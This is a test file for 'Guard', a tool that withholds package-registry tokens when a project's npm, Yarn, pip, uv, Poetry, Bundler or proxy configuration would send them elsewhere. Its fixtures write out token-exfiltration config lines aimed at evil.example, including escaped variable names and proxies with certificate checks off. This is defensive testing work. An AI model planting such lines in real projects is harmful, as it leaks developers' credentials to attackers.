import { join } from 'node:path'
import { expect, test } from 'vitest'
import { findTokens } from '../../src/core/tokens.ts'
import { runGuard, tempHome } from '../helpers/guard.ts'

const TOKEN = 'tg_anon_TESTx7Qm2VbN4kLp9sWd'
const AT = 'http://127.0.0.1:7001'
const URLS = Object.fromEntries(
  ['NPM', 'PYPI', 'RUBYGEMS', 'GOLANG', 'PACKAGIST'].map(name => [`GUARD_${name}_URL`, `${AT}/${name.toLowerCase()}/`]),
)
const PRINT = 'process.stdout.write(JSON.stringify(process.env))'

/** The variables with the token that a program gets in this project, and what guard says. */
async function given(
  files: Record<string, string>,
  { flags = [] as string[], words = ['-e', PRINT], cwd = 'p', urls = URLS } = {},
) {
  const { home } = tempHome({ 'p/.git/HEAD': '', ...files })
  const args = ['exec', ...flags, '--', process.execPath, ...words]
  const run = { home, cwd: join(home, cwd), env: { ...urls, GUARD_TOKEN: TOKEN }, printsToken: true }
  const { code, stdout, stderr } = await runGuard(args, run)
  expect(code, stderr).toBe(0)
  expect(findTokens(stderr)).toEqual([])
  const env = JSON.parse(stdout) as Record<string, string>
  const names = Object.keys(env).filter(name => {
    const value = env[name]!
    return name !== 'GUARD_TOKEN' && (value.includes(TOKEN) || value.includes(btoa(`token:${TOKEN}`)))
  })
  return { names, stderr: stderr.replaceAll(`${home}/`, '') }
}

const NPM = 'npm_config_//127.0.0.1:7001/npm/:_authToken'

test.for<[string, Record<string, string>, string, string]>([
  [
    'the path of a registry',
    { 'p/.npmrc': '@evil:registry=http://evil.example/x/${YARN_NPM_AUTH_TOKEN}/\n' },
    'YARN_NPM_AUTH_TOKEN',
    'p/.npmrc:1',
  ],
  ['a name with slashes', { 'p/.npmrc': `@evil:registry=http://evil.example/\${${NPM}}/\n` }, NPM, 'p/.npmrc:1'],
  [
    'the credential of another host',
    { 'p/.npmrc': '\n//evil.example/:_authToken=${YARN_NPM_AUTH_TOKEN}\n' },
    'YARN_NPM_AUTH_TOKEN',
    'p/.npmrc:2',
  ],
  [
    'a setting that every registry gets',
    { 'p/.npmrc': 'user-agent=${PIP_INDEX_URL}\n' },
    'PIP_INDEX_URL',
    'p/.npmrc:1',
  ],
  [
    'the name of a host',
    { 'p/.npmrc': 'proxy=http://${YARN_NPM_AUTH_TOKEN}.evil.example/\n' },
    'YARN_NPM_AUTH_TOKEN',
    'p/.npmrc:1',
  ],
  [
    'an escape',
    { 'p/.yarnrc.yml': 'npmRegistries:\n  "//evil.example": { npmAuthToken: "\\x24{YARN_NPM_AUTH_TOKEN}" }\n' },
    'YARN_NPM_AUTH_TOKEN',
    'p/.yarnrc.yml',
  ],
  [
    'an escape in the name',
    { 'p/.yarnrc.yml': 'npmRegistries:\n  "//evil.example": { npmAuthToken: "${\\x59ARN_NPM_AUTH_TOKEN}" }\n' },
    'YARN_NPM_AUTH_TOKEN',
    'p/.yarnrc.yml',
  ],
  [
    'a list of requirements',
    { 'p/requirements.txt': '--extra-index-url http://evil.example/${UV_INDEX_URL}/\n' },
    'UV_INDEX_URL',
    'p/requirements.txt:1',
  ],
  [
    'another variable',
    {
      'p/.env': 'X=$BUN_CONFIG_REGISTRY\n',
      'p/bunfig.toml': '[install.registry]\nurl = "http://evil.example"\ntoken = "$X"\n',
    },
    'BUN_CONFIG_REGISTRY',
    'p/.env:1',
  ],
  [
    'an environment file of any name that Yarn is told to read',
    {
      'p/.yarnrc.yml':
        'injectEnvironmentFiles: ["own.txt?"]\nnpmScopes: { evil: { npmRegistryServer: "http://evil.example/${X}/" } }\n',
      'p/own.txt': 'X=${PIP_INDEX_URL}\n',
    },
    'PIP_INDEX_URL',
    'p/own.txt:1',
  ],
  [
    'another config that npm is told to read',
    { 'p/.npmrc': 'userconfig=./rc\n', 'p/rc': '//evil.example/:_authToken=${GOPROXY}\n' },
    'GOPROXY',
    'p/rc:1',
  ],
  [
    'another config that npm is told to read by a variable',
    { 'p/.npmrc': 'globalconfig=${HOME}/p/${NOTHING-s}/rc\n', 'p/s/rc': '//evil.example/:_authToken=${GOPROXY}\n' },
    'GOPROXY',
    'p/s/rc:1',
  ],
  [
    'another config that npm looks for where it is started',
    { 'p/.npmrc': 'userconfig=./rc\n', 'p/sub/rc': '//evil.example/:_authToken=${GOPROXY}\n', 'p/sub/x': '' },
    'GOPROXY',
    'p/sub/rc:1',
  ],
  [
    'a list that a list of requirements includes',
    { 'p/requirements.txt': '-r sub/need\n', 'p/sub/need': '--extra-index-url http://evil.example/${UV_INDEX_URL}/\n' },
    'UV_INDEX_URL',
    'p/sub/need:1',
  ],
  [
    'a config above the current folder',
    { 'p/.npmrc': '@evil:registry=http://evil.example/${GOPROXY}/\n', 'p/sub/x': '' },
    'GOPROXY',
    'p/.npmrc:1',
  ],
])('a variable is withheld that the project gives to another host by %s', async ([, files, variable, place]) => {
  const flags = ['--only', 'npm,pnpm,yarn,bun,pip,uv,go']
  const { names, stderr } = await given(files, { flags, cwd: 'p/sub/x' in files ? 'p/sub' : 'p' })
  expect(names).not.toContain(variable)
  expect(stderr).toContain(`note: ${variable} is not set`)
  expect(stderr).toContain(place)
})

const UV = (own: string, other: string) =>
  `[[tool.uv.index]]\nname = "${own}"\nurl = "${AT}/pypi/simple/"\n[[tool.uv.index]]\nname = "${other}"\nurl = "http://evil.example/simple/"\n`
const POETRY = (own: string, other: string) =>
  `[[tool.poetry.source]]\nname = "${own}"\nurl = "${AT}/pypi/simple/"\n[[tool.poetry.source]]\nname = "${other}"\nurl = "http://evil.example/simple/"\n`

test.for<[string, Record<string, string>, string, string]>([
  [
    'uv, a hyphen and an underscore',
    { 'p/pyproject.toml': UV('a-b', 'a_b') },
    'UV_INDEX_A_B_PASSWORD',
    'p/pyproject.toml:5',
  ],
  [
    'uv, letters of another case',
    { 'p/pyproject.toml': UV('a-b', 'A.B') },
    'UV_INDEX_A_B_PASSWORD',
    'p/pyproject.toml:5',
  ],
  [
    'uv, in a member of the workspace',
    { 'p/pyproject.toml': UV('a-b', 'x'), 'p/m/pyproject.toml': UV('y', 'a_b') },
    'UV_INDEX_A_B_PASSWORD',
    'p/m/pyproject.toml:5',
  ],
  [
    'uv, in another file',
    { 'p/pyproject.toml': UV('a-b', 'x'), 'p/uv.toml': '[[index]]\nname = "a_b"\nurl = "http://evil.example/"\n' },
    'UV_INDEX_A_B_PASSWORD',
    'p/uv.toml:2',
  ],
  [
    'Poetry, letters of another case',
    { 'p/pyproject.toml': POETRY('a-b', 'A_B') },
    'POETRY_HTTP_BASIC_A_B_PASSWORD',
    'p/pyproject.toml:5',
  ],
  [
    'Poetry, a dot',
    { 'p/pyproject.toml': POETRY('a-b', 'a.b') },
    'POETRY_HTTP_BASIC_A_B_PASSWORD',
    'p/pyproject.toml:5',
  ],
  ['Bundler, another port', { 'p/Gemfile': 'source "http://127.0.0.1:9999/"\n' }, 'BUNDLE_127__0__0__1', 'p/Gemfile:1'],
  [
    'Bundler, in a lockfile',
    { 'p/Gemfile.lock': 'GEM\n  remote: http://127.0.0.1:9999/\n' },
    'BUNDLE_127__0__0__1',
    'p/Gemfile.lock:2',
  ],
])('a variable is withheld that two hosts would get: %s', async ([, files, variable, place]) => {
  const { names, stderr } = await given(files, { flags: ['--only', 'uv,poetry,bundler'] })
  expect(names).not.toContain(variable)
  expect(stderr).toContain(`note: ${variable} is not set`)
  expect(stderr).toContain(place)
})

test.for(['run.py', 'run', './bin/run.txt'])(
  'the indexes of a script count that the command line names: %s',
  async name => {
    const script = `# /// script\n# dependencies = ["x"]\n# [[tool.uv.index]]\n# name = "a_b"\n# url = "http://evil.example/"\n# ///\nimport x\n`
    const files = { 'p/pyproject.toml': UV('a-b', 'x'), [join('p', name)]: script }
    const { names, stderr } = await given(files, { flags: ['--only', 'uv'], words: ['-e', PRINT, name] })
    expect(names).not.toContain('UV_INDEX_A_B_PASSWORD')
    expect(stderr).toContain(`${join('p', name)}:4`)
  },
)

test.for<[string, string, boolean]>([
  ['an empty one', '""', false],
  ['a variable that may be empty', '"${NOTHING:-}"', false],
  ['another variable that may be empty', '"${NOTHING-}"', false],
  ['one of its own', '"abc"', true],
  ['a variable that must be set', '"${OTHER_TOKEN}"', true],
  ['a variable with a default', '"${NOTHING:-abc}"', true],
])(
  'Yarn gets the token beside a scope elsewhere only if that has a token of its own: %s',
  async ([, value, isGiven]) => {
    const yarnrc = `npmScopes:\n  x: { npmRegistryServer: "https://x.example/", npmAuthToken: ${value} }\n`
    const { names } = await given({ 'p/.yarnrc.yml': yarnrc }, { flags: ['--only', 'yarn'] })
    expect(names.includes('YARN_NPM_AUTH_TOKEN')).toBe(isGiven)
  },
)

test('the indexes of Guard alone get their passwords', async () => {
  const { names } = await given({ 'p/pyproject.toml': UV('a-b', 'c') }, { flags: ['--only', 'uv'] })
  expect(names).toContain('UV_INDEX_A_B_PASSWORD')
})

const tools = (names: string[]) => ({
  npm: names.includes(NPM),
  yarn: names.includes('YARN_NPM_AUTH_TOKEN'),
  pip: names.includes('PIP_INDEX_URL'),
  go: names.includes('GOPROXY'),
})
const none = { npm: false, yarn: false, pip: false, go: false }
const all = { npm: true, yarn: true, pip: true, go: true }

test.for<[string, Record<string, string>, string[], typeof none]>([
  ['a lockfile', { 'p/yarn.lock': '' }, [], { ...none, yarn: true }],
  ['a manifest', { 'p/go.mod': 'module x\n' }, [], { ...none, go: true }],
  ['a manifest in a part of it', { 'p/a/b/requirements.txt': '' }, [], { ...none, pip: true }],
  ['a script of a shell', { 'p/go.mod': '' }, ['cd x && npm ci'], { ...none, go: true, npm: true }],
  ['the program of a path', { 'p/go.mod': '' }, ['/opt/x/npm-cli.js'], { ...none, go: true, npm: true }],
  ['nothing at all', {}, [], all],
])('the tools are those that the project and the command line name: %s', async ([, files, words, expected]) => {
  const { names } = await given(files, { words: ['-e', PRINT, '--', ...words] })
  expect(tools(names)).toEqual(expected)
})

test('a config in the home folder is no project, and its tools are named with --verbose', async () => {
  expect(tools((await given({ '.npmrc': 'fund=false\n' }, { cwd: '.' })).names)).toEqual(all)
  const { stderr } = await given({ 'p/yarn.lock': '' }, { flags: ['--verbose'] })
  expect(stderr).toContain('tools that get the token: yarn\n')
})

test.for<[string, Record<string, string>, string]>([
  [
    'npm by its own key',
    { 'p/.npmrc': `//127.0.0.1:7001/npm/:_authToken=\${YARN_NPM_AUTH_TOKEN}\n` },
    'YARN_NPM_AUTH_TOKEN',
  ],
  [
    'Yarn at the top, where no server is named',
    { 'p/.yarnrc.yml': 'npmAuthToken: "${YARN_NPM_AUTH_TOKEN:-}"\n' },
    'YARN_NPM_AUTH_TOKEN',
  ],
  ['an environment file', { 'p/.env': 'UV_INDEX_URL=$PIP_INDEX_URL\n' }, 'PIP_INDEX_URL'],
  [
    'a container',
    { 'p/compose.yml': 'services:\n  a:\n    environment:\n      PIP_INDEX_URL: ${PIP_INDEX_URL}\n' },
    'PIP_INDEX_URL',
  ],
  ['a comment', { 'p/.npmrc': '# //evil.example/:_authToken=${YARN_NPM_AUTH_TOKEN}\n' }, 'YARN_NPM_AUTH_TOKEN'],
])('a variable is given that the project keeps to Guard: %s', async ([, files, variable]) => {
  const { names } = await given(files, { flags: ['--only', 'npm,yarn,pip'] })
  expect(names).toContain(variable)
})

const EVIL = `@evil:registry=http://evil.example/\${${NPM}}/\n`

test.for<[string, string, string[]]>([
  ['a folder', 'c/.npmrc', ['--prefix', '../c']],
  ['a folder that is joined with its option', 'c/.npmrc', ['--prefix=../c']],
  ['a folder in a script for a shell', 'c/sub/.npmrc', ['cd ../c && cd sub && npm ci']],
  ['a folder below the home folder', 'c/.npmrc', ['cd ~/c; npm ci']],
  ['a folder of a project', 'c/.npmrc', ['-C../c/sub']],
  ['a config of any name', 'c/rc', ['--userconfig', '../c/rc']],
  ['a config of any name that is joined with its option', 'c/rc', ['--globalconfig=../c/rc']],
  ['a config of any name in a variable', 'c/rc', ['NPM_CONFIG_USERCONFIG=../c/rc']],
])(
  'a variable is withheld that a config elsewhere gives away, because the command line names %s',
  async ([, path, words]) => {
    const { names, stderr } = await given(
      { [path]: EVIL, 'c/sub/x': '', 'c/.git/HEAD': '' },
      { words: ['-e', PRINT, '--', ...words] },
    )
    expect(names).not.toContain(NPM)
    expect(stderr).toContain(`${path}:1`)
  },
)

test.for<[string, Record<string, string>, string[]]>([
  ['a folder with a config of its own', { 'c/.npmrc': 'fund=false\n' }, ['--prefix', '../c']],
  ['a folder that is not there', {}, ['--prefix', '../nothing', 'https://evil.example/', '--', '']],
  ['the home folder and what is above it', { 'clone/.npmrc': EVIL }, ['cd ~ && cd / && npm ci']],
  ['a script', { 'p/run.sh': `echo "$\{${NPM}}" > http://evil.example/\n` }, ['run.sh']],
])('a variable is given where the command line names %s', async ([, files, words]) => {
  const { names } = await given(files, { words: ['-e', PRINT, '--', ...words], flags: ['--only', 'npm'] })
  expect(names).toContain(NPM)
})

const HTTPS = Object.fromEntries(Object.entries(URLS).map(([name, url]) => [name, url.replace('http:', 'https:')]))

test.for<[string, string, Record<string, string>, typeof URLS]>([
  ['npm, over http', 'npm', { 'p/.npmrc': 'proxy=http://evil.example/\n' }, URLS],
  [
    'npm, without looking at certificates',
    'npm',
    { 'p/.npmrc': 'https-proxy=http://evil.example/\nstrict-ssl=false\n' },
    HTTPS,
  ],
  [
    'npm, with a certificate of its own',
    'npm',
    { 'p/.npmrc': 'https-proxy=http://evil.example/\ncafile=./ca.pem\n' },
    HTTPS,
  ],
  ['Yarn, over http', 'yarn', { 'p/.yarnrc.yml': 'httpProxy: http://evil.example/\n' }, URLS],
  [
    'Yarn, for one host',
    'yarn',
    { 'p/.yarnrc.yml': 'networkSettings:\n  "*": { httpsProxy: "http://evil.example/", httpsCaFilePath: ./ca.pem }\n' },
    HTTPS,
  ],
  [
    'Yarn, without looking at certificates',
    'yarn',
    { '.git/HEAD': '', 'p/.yarnrc.yml': 'httpsProxy: http://evil.example/\nenableStrictSsl: false\n' },
    HTTPS,
  ],
  [
    'pnpm, in its workspace',
    'pnpm',
    { 'p/pnpm-workspace.yaml': 'httpsProxy: http://evil.example/\nstrictSsl: false\n' },
    HTTPS,
  ],
])('no tool gets the token through a proxy of the project that could read it: %s', async ([, tool, files, urls]) => {
  const { names, stderr } = await given(
    { ...files, 'p/.npmrc': `${files['p/.npmrc'] ?? ''}//127.0.0.1:7001/npm/:_authToken=\${NPM_TOKEN}\n` },
    { flags: ['--only', tool], urls },
  )
  expect(names).toEqual([])
  expect(stderr).toContain(`note: ${tool} gets no token`)
  expect(stderr).toMatch(/p\/\S+:[12] sends it through a proxy of the project/)
})

test.for<[string, string, Record<string, string>, typeof URLS]>([
  ['is the user\u2019s own', 'npm', { '.npmrc': 'proxy=http://proxy.example/\nstrict-ssl=false\n' }, URLS],
  [
    'is the user\u2019s own, for Yarn',
    'yarn',
    { '.yarnrc.yml': 'httpProxy: http://proxy.example/\nenableStrictSsl: false\n' },
    URLS,
  ],
  [
    'cannot read what it passes on',
    'npm',
    { 'p/.npmrc': 'proxy=http://proxy.example/\nhttps-proxy=http://proxy.example/\n' },
    HTTPS,
  ],
  ['is none', 'npm', { 'p/.npmrc': 'proxy=null\nhttps-proxy=false\nstrict-ssl=false\nnoproxy=x.example\n' }, URLS],
  ['is another tool\u2019s', 'npm', { 'p/.yarnrc.yml': 'httpProxy: http://proxy.example/\n' }, URLS],
])('a tool gets the token where a proxy %s', async ([, tool, files, urls]) => {
  const { names } = await given(files, { flags: ['--only', tool], urls })
  expect(names).not.toEqual([])
})

const PART = { 'p/yarn.lock': '', 'p/a/b/package.json': '{ "publishConfig": { "registry": "https://evil.example/" } }' }

test.for<[string[], boolean]>([
  [['yarn.js', 'install'], true],
  [['yarn.js'], true],
  [['yarn.js', 'npm', 'publish'], false],
  [['yarn.js', 'workspaces', 'foreach', '-A', 'npm', 'publish'], false],
  [['build.js'], false],
])(
  'where a part of the project is published elsewhere, `node %j` gets Yarn\u2019s token: %s',
  async ([words, isGiven]) => {
    const { names } = await given({ ...PART, [`p/${words[0]}`]: PRINT }, { words, flags: ['--only', 'yarn'] })
    expect(names.includes('YARN_NPM_AUTH_TOKEN')).toBe(isGiven)
  },
)

test('a project that cannot be searched in time gets no token, and is told how to give it longer', async () => {
  const folders = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`p/f/${index}/x`, '']))
  const { home } = tempHome({ 'p/.git/HEAD': '', ...folders })
  const words = ['exec', '--search-time', '0.000001', '--', process.execPath, '-e', PRINT]
  const { code, stderr } = await runGuard(words, { home, cwd: join(home, 'p'), env: { ...URLS, GUARD_TOKEN: TOKEN } })
  expect([code, stderr]).toEqual([
    2,
    'error: the search of the project ran out of time, so a config that sends the token elsewhere may have been missed [PARTIAL_SEARCH]\nhint: give it longer with `--search-time SECONDS`\n',
  ])
})
